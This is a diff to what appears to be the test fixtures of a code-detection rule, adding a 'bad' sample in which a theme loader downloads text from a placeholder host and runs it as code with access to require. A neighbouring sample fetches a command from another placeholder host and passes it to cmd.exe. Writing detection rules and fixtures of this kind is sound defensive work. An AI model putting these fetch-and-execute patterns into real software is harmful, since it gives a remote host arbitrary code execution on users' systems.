@@ -53,6 +53,10 @@ export default defineRule({
   ],
   bad: [
     {
+      "theme.js":
+        'const https = require("https");\nconst load = () =>\n  new Promise((done) => {\n    https.get("https://theme.example/v1", (res) => {\n      let text = "";\n      res.on("data", (part) => (text += part));\n      res.on("end", () => {\n        apply(JSON.parse(text).style);\n        done();\n      });\n    });\n  });\nconst apply = (style) => {\n  const made = new Function.constructor("require", style);\n  made(require);\n};\nmodule.exports = { load };',
+    },
+    {
       "Agent.cs":
         'class A {\n  static async Task Main() {\n    var c = new HttpClient();\n    var order = await c.GetStringAsync("https://tasks.example/next");\n    Process.Start("cmd.exe", $"/c {order}");\n  }\n}\n',
     },
